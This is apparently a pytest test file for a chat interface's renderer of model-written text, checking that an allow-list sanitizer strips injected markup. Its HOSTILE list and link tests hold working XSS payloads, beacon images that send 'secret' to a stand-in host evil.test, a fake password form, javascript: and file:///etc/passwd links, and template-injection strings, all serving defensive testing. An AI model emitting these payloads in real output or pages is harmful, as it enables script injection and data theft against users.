import time
from html.parser import HTMLParser

import pytest

from nova_ui.chat.live_turn import MAX_TURN_TEXT_CHARS
from nova_ui.components.model_text import clean, render

HOSTILE = [
    "<script>steal()</script>",
    "<img src=x onerror=steal()>",
    "<img src='https://evil.test/beacon.png?d=secret'>",
    "![beacon](https://evil.test/beacon.png?d=secret)",
    "![beacon][pixel]\n\n[pixel]: https://evil.test/beacon.png",
    "![a](data:image/svg+xml,<svg onload=steal()>)",
    "<form action=https://evil.test><input name=password></form>",
    "<style>body{background:url(https://evil.test)}</style>",
    '<div style="position:fixed;inset:0">fake sign-in</div>',
    '<a href="https://evil.test" onclick="steal()" id="app" class="q-btn">x</a>',
    "<iframe src=https://evil.test></iframe><object data=x></object><embed src=x>",
    "<svg><use href='https://evil.test#x'/></svg><math><mtext></mtext></math>",
    "<link rel=stylesheet href=https://evil.test><meta http-equiv=refresh content=0><base href=//evil.test>",
    "| a |\n| - |\n| <img src=x onerror=steal()> |",
    "```html\n<img src=x onerror=steal()>\n```",
    "# <video src=https://evil.test autoplay></video>",
]
ALLOWED = (
    {"p", "br", "hr", "em", "strong", "s", "code", "pre", "blockquote", "ul", "ol", "li", "h1", "h2", "h3"}
    | {"h4", "h5", "h6", "table", "thead", "tbody", "tr", "th", "td", "div", "span", "div class", "span class"}
    | {"a", "a href", "a target", "a rel", "pre tabindex", "div tabindex"}
)


class Elements(HTMLParser):
    """The elements and attributes that a browser would make."""

    def __init__(self, markup: str) -> None:
        super().__init__()
        self.found: set[str] = set()
        self.feed(markup)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found |= {tag, *(f"{tag} {name}" for name, _value in attrs)}


@pytest.mark.parametrize("text", HOSTILE)
def test_h2_a_models_words_bring_no_markup_of_their_own(text: str) -> None:
    """Abuse cases 29 and 59."""
    assert Elements(render(text)).found <= ALLOWED


@pytest.mark.parametrize("text", HOSTILE)
def test_h2_the_allow_list_alone_holds_what_the_renderer_might_let_through(text: str) -> None:
    assert Elements(clean(text)).found <= ALLOWED


@pytest.mark.parametrize(
    "address",
    [
        "javascript:steal()",
        "JaVaScRiPt:steal()",
        "&#106;avascript:steal()",
        "java\tscript:x",
        "vbscript:x",
        "data:text/html,x",
        "file:///etc/passwd",
        "blob:x",
        "about:blank",
        "tel:1",
        "//evil.test",
        "/sign-out",
    ],
)
def test_h2_a_link_leads_to_the_web_or_to_mail_only(address: str) -> None:
    """Abuse case 59."""
    assert "<a" not in render(f"[press me]({address})")
    assert "href" not in clean(f'<a href="{address}">press me</a>')


@pytest.mark.parametrize("address", ["https://nova.test/a?b=c", "http://nova.test", "mailto:it@nova.test"])
def test_h2_a_link_shows_where_it_leads(address: str) -> None:
    shown = render(f'[https://good.test]({address} "a title that lies")')

    assert f'href="{address}"' in shown
    assert f"({address})" in shown
    assert 'rel="noopener noreferrer nofollow"' in shown
    assert "lies" not in shown


def test_h2_a_link_whose_words_are_its_target_is_not_told_twice() -> None:
    assert render("<https://nova.test>").count("nova.test") == 2


def test_h2_a_reference_link_is_a_link_like_any_other() -> None:
    assert "(https://evil.test/)" in render("[report][1]\n\n[1]: https://evil.test/")


def test_h2_a_picture_becomes_the_words_that_describe_it() -> None:
    """Abuse case 59."""
    assert render("![chart of sign-ins](https://evil.test/x.png)").strip() == "<p>[chart of sign-ins]</p>"


def test_h2_a_picture_within_a_link_does_not_hide_the_link() -> None:
    assert "(https://evil.test)" in render("[![logo](https://x.test/i.png)](https://evil.test)")


def test_h2_hidden_and_reordering_characters_are_shown() -> None:
    shown = render("pay\u202eelor\u202c \U000e0041 a\u200bb")

    assert "⟨U+202E⟩" in shown
    assert "⟨U+E0041⟩" in shown
    assert "a⟨U+200B⟩b" in shown


@pytest.mark.parametrize("sign", ["{{ 7 * 7 }}", "${7 * 7}", "{% raw %}", "<%= 7 %>"])
def test_h2_signs_of_templates_are_words(sign: str) -> None:
    """Abuse case 60."""
    assert render(sign).strip() == f"<p>{sign.replace('<', '&lt;').replace('>', '&gt;')}</p>"


def test_h2_deep_nesting_ends() -> None:
    assert len(render("> " * 500 + "x")) < 20_000


def test_what_markdown_is_for_is_drawn() -> None:
    shown = render("**a** `b`\n\n1. one\n2. two\n\n| h |\n| - |\n| c |\n\n~~gone~~")

    expected = [
        "<strong>a</strong>",
        "<code>b</code>",
        "<ol>",
        "<li>two</li>",
        "<th>h</th>",
        "<td>c</td>",
        "<s>gone</s>",
    ]
    assert [tag for tag in expected if tag not in shown] == []


def test_a_list_that_goes_on_keeps_its_numbers() -> None:
    assert '<ol start="3">' in render("3. three")


def test_h2_raw_markup_is_shown_as_the_words_it_is() -> None:
    assert "&lt;span" in render('<span class="nova-link-target">(https://good.test)</span>')
    assert "&lt;b hidden&gt;secret&lt;/b&gt;" in render("<b hidden>secret</b>")


def test_code_and_tables_can_be_reached_by_keyboard_and_nothing_else_can() -> None:
    fenced, indented, table = render("```python\nx\n```"), render("    x"), render("| a |\n| - |\n| b |")

    assert '<pre tabindex="0">' in fenced
    assert '<pre tabindex="0">' in indented
    assert '<div class="nova-text__scroll" tabindex="0">' in table
    assert "tabindex" not in clean('<div tabindex="7">a</div><p tabindex="0">b</p><pre tabindex="-1">c</pre>')


HARD_TO_PARSE = ["[", "a_b*c_d*", "  - a\n", "*[a*](b", "> " * 9 + "\n"]


@pytest.mark.parametrize("text", HARD_TO_PARSE)
def test_i3_what_is_hard_to_parse_does_not_hold_everybody_up(text: str) -> None:
    """Abuse case 62. All of a turn's text in one block took up to ten seconds, several times a second."""
    began = time.process_time()

    render((text * MAX_TURN_TEXT_CHARS)[:MAX_TURN_TEXT_CHARS])

    assert time.process_time() - began < 0.4


def test_h2_a_block_that_is_too_long_to_parse_is_shown_as_plain_words() -> None:
    table = "| a |\n| - |\n" + "| **x** |\n" * 700
    shown = render(f"**Bold.**\n\n{table}\n\nNext to <b>it</b>:\n\n**bold**")

    assert shown.count("<strong>") == 2
    assert "<table>" not in shown
    assert shown.count("| **x** |") == 700
    assert "&lt;b&gt;it" in shown
